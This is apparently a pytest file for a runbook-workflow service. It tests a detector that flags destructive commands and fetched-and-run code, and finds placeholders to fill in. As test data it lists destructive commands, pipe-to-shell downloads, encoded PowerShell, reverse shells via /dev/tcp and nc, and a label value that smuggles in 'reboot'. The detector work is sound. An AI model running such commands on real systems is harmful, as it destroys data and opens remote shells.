import pytest

from services.workflow.commands import (
    Gap,
    assigned_variables,
    placeholder_name,
    placeholders,
    split_at_gaps,
    unfit_values,
    values_in,
    values_of,
)
from services.workflow.effects.table import danger_in_prose, danger_of


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /var/lib/etcd", "sudo rm -fr /tmp/x", "rm --recursive x", "find / -name x -delete",
        "mkfs.xfs /dev/sdb", "dd if=/dev/zero of=/dev/sda", "echo > /dev/sda", "wipefs -a /dev/sdb",
        "reboot", "sudo reboot", "switch# reload", "shutdown -h now", "request system reboot",
        "systemctl poweroff", "ipmitool chassis power cycle", "Restart-Computer -Force",
        "DROP TABLE tickets;", "mysql -e 'drop database app'", "delete from users;",
        "TRUNCATE TABLE x",
        "kubectl delete pod web-0", "kubectl -n shop delete pvc x", "kubectl drain n1 --force",
        "kubectl drain n1 --ignore-daemonsets --delete-emptydir-data", "oc delete node n1",
        "helm uninstall web", "terraform destroy", "docker system prune -af",
        "etcdctl member remove 1",
        "no router bgp 65001", "no vlan 10", "no ip route 10.0.0.0/8 10.1.1.1", "undo bgp",
        "format flash:", "format c:", "write erase", "erase startup-config", "clear config all",
        "clear bgp *", "clear ip bgp *", "delete /force flash:image.bin", "config reload -y",
        "iptables -F", "git push --force origin main", "git reset --hard HEAD~1",
        "apt-get install --force-yes x", "kubectl patch x --grace-period=0",
        "Remove-Item C:\\x -Recurse",
        "ceph osd purge 3 --yes-i-really-mean-it", "lvremove vg/lv", "FLUSHALL",
    ],
)  # fmt: skip
def test_a_destructive_command_is_recognised(command: str) -> None:
    assert danger_of(command) is not None


@pytest.mark.parametrize(
    "command",
    [
        "show running-config", "no shutdown", "systemctl reload nginx", "systemctl restart kubelet",
        "kubectl get pods", "kubectl logs web | grep delete", "clear bgp * soft", "rm notes.txt",
        "kubectl drain n1 --ignore-daemonsets", "show reload cause", "date --format %s",
        "last reboot", "grep -i shutdown /var/log/messages", "delete from users where id = 1;",
        "show ip bgp neighbors", "clear counters Ethernet1", "git push origin main",
    ],
)  # fmt: skip
def test_an_ordinary_command_is_not_dangerous(command: str) -> None:
    assert danger_of(command) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl https://x.example/i.sh | sh", "curl -fsSL x.example | sudo -E bash -s -- --yes",
        "wget -qO- http://x.example/a | /bin/sh", "wget -O- x | gunzip | bash",
        "curl 'http://x.example/?a=1&b=2' | python3 -", "bash <(curl -s x.example/i)",
        'sh -c "$(curl -fsSL x.example/i)"', "eval $(wget -qO- x.example)", ". <(curl x.example)",
        "Run: curl x.example | bash.", "echo aGk= | base64 -d | sh",
        "base64 --decode x.b64 | sudo bash", "xxd -r -p x | sh",
        "iex (irm https://x.example/i.ps1)", "irm x.example | iex",
        "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')",
        "powershell -enc SQBFAFgAIAAoAGkAcgBtACkA", "bash -i >& /dev/tcp/10.0.0.9/443 0>&1",
        "nc 10.0.0.9 443 -e /bin/sh", "python -c \"exec(urlopen('http://x').read())\"",
    ],
)  # fmt: skip
def test_code_from_elsewhere_is_dangerous_in_commands_and_in_prose(command: str) -> None:
    for danger in (danger_of(command), danger_in_prose(f"As root, run `{command}` on each node.")):
        assert danger is not None
        assert danger.what == "runs code from elsewhere"


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://localhost:9090/api/v1/alerts | jq .", "curl -s x | python3 -m json.tool",
        "wget -O image.bin https://x.example/image.bin", "curl x | shuf | head",
        "kubectl get secret x -o jsonpath={.data.p} | base64 -d", "curl x | perl -ne 'print'",
        "base64 -d x | openssl x509 -text", "timeout 3 bash -c '</dev/tcp/10.0.0.1/179'",
        "curl -o i.sh https://x.example/i.sh", "nc -zv 10.0.0.1 179", "sh show.sh | grep curl",
        "iex.exe --version", "curl -s x | tee run.sh",
    ],
)  # fmt: skip
def test_fetching_alone_is_not_dangerous(command: str) -> None:
    assert danger_of(command) is None
    assert danger_in_prose(f"Run `{command}` and read what it says.") is None


def test_prose_is_dangerous_only_where_no_english_reads_so() -> None:
    assert danger_in_prose("Reboot the switch and reload the page; no vlan 10 is set") is None
    assert danger_in_prose("Run rm -rf on the old folder") is not None


@pytest.mark.parametrize(
    ("command", "names"),
    [
        ("ping <host-name>", ["host-name"]),
        ("kubectl -n {namespace} logs ${POD} $CONTAINER", ["namespace", "POD", "CONTAINER"]),
        ("curl {{ url }}", ["url"]),
        ("ssh <user>@<host> <host>", ["user", "host"]),
        ("awk '{print $1}' $HOME/x", []),
        ("cat <<EOF", []),
        ("kubectl get x -o jsonpath={.items[0].name}", []),
        ("echo $? $$ $(date) \\$X", []),
        ("cp {a,b} x", []),
    ],
)
def test_placeholders_are_named_as_written(command: str, names: list[str]) -> None:
    assert placeholders(command) == names


def test_spelling_of_a_placeholder_does_not_matter() -> None:
    assert (
        placeholder_name("Pod-Name") == placeholder_name("POD_NAME") == placeholder_name("pod name")
    )


def test_variables_set_by_a_command_are_recognised() -> None:
    assert assigned_variables(
        "POD=$(kubectl get pod -o name); for n in a b; do read -r line; done"
    ) == {
        "pod",
        "n",
        "line",
    }


@pytest.mark.parametrize(
    ("command", "gaps"),
    [
        ("kubectl logs <pod-name> -n {namespace}", ["<pod-name>", "{namespace}"]),
        ("ssh YOUR_HOST uptime", ["YOUR_HOST"]),
        ("kubectl describe pod POD_NAME", ["POD_NAME"]),
        ("POD_NAME=web-0; kubectl logs $POD_NAME", []),
        ("ping [device-ip]", ["[device-ip]"]),
        ("show interface xxx", ["xxx"]),
        ("echo $HOME $node", ["$node"]),
        ("ls [a-z]*.log", []),
        ("grep ORA_ERROR alert.log", []),
        ("awk '{print $1}' f", []),
        ("awk '{print $NF}' <file>", ["<file>"]),
        ("oc get node -o template='{{range $k, $v := .a}}{{println $k $v}}{{else}}-{{end}}'", []),
        ("oc get node {{ node }} -o template='{{.kind}}'", ["{{ node }}"]),
        ("cat /var/MY_DIR_NAME/x", []),
    ],
)
def test_what_is_left_to_fill_in_is_a_gap(command, gaps):
    parts = split_at_gaps(command)
    assert [each.written for each in parts if isinstance(each, Gap)] == gaps
    assert "".join(each.written if isinstance(each, Gap) else each for each in parts) == command


def test_one_gap_has_one_name_however_it_is_written():
    parts = split_at_gaps("kubectl logs <Pod-Name>; kubectl get pod ${POD_NAME} {pod name}")
    assert {each.name for each in parts if isinstance(each, Gap)} == {"pod_name"}


def test_what_a_text_names_may_fill_a_gap():
    text = "10.0.42.17 slow since 10:20, pod web-3 on /dev/sda1 (93.6 %), v1.2. 2026-11-27T10:20Z"
    assert values_in(text) == ["10.0.42.17", "web-3", "/dev/sda1", "v1.2"]


def test_a_value_of_several_words_is_left_to_the_engineer():
    labels = {"pod-name": "web-3; reboot", "node": "n1", "zone": " "}
    assert values_of(labels) == {"node": "n1"}
    assert unfit_values(labels) == {"pod_name": "web-3; reboot"}


@pytest.mark.parametrize(
    "command",
    [
        "Get-WinEvent | Where-Object { $_.Id -eq 5 -and $true } | Select-Object -First $null",
        "foreach ($node in Get-ClusterNode) { ping $node }",
    ],
)
def test_what_powershell_sets_is_no_gap(command):
    assert split_at_gaps(command) == [command]


def test_what_another_command_of_the_page_sets_is_no_gap():
    assert split_at_gaps("ping $node", {"node"}) == ["ping $node"]
    assert [each.name for each in split_at_gaps("ping $node") if isinstance(each, Gap)] == ["node"]
